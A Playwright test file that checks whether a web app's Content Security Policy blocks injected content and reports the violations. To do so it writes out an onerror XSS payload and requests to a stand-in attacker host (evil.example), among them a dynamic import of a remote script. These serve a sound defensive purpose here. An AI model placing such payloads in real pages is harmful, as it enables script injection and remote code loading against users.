import { expect, test } from './fixtures.ts'

test('what the policy refuses is seen, so that no journey can break it unnoticed', async ({
  startApp,
}) => {
  const { page, policy } = await startApp()
  await expect(page.getByRole('heading', { level: 1 })).toBeVisible()
  expect(await policy.take()).toEqual([])

  const wasRun = await page.evaluate(async () => {
    const style = document.createElement('style')
    const image = document.createElement('img')
    style.append('body { color: red }')
    image.src = 'https://evil.example/a.png'
    document.head.append(style, image)
    await fetch('https://evil.example/').catch(() => undefined)
    try {
      document.body.innerHTML = '<img src=x onerror="window.wasRun = true">'
    } catch {
      return 'wasRun' in window
    }
    return true
  })

  // As text, so that nothing between here and the page makes another kind of import of it.
  await page.evaluate("import('https://evil.example/a.js').catch(() => undefined)")
  expect(wasRun).toBe(false)
  const seen: string[] = []
  for (const directive of ['script-src', 'style-src', 'img-src', 'connect-src']) {
    await expect
      .poll(async () => seen.push(...(await policy.take())) && seen.join('\n'))
      .toContain(directive)
  }
  // What the browser says of the same refusals comes a moment later.
  await page.waitForTimeout(200)
  await policy.take()
})
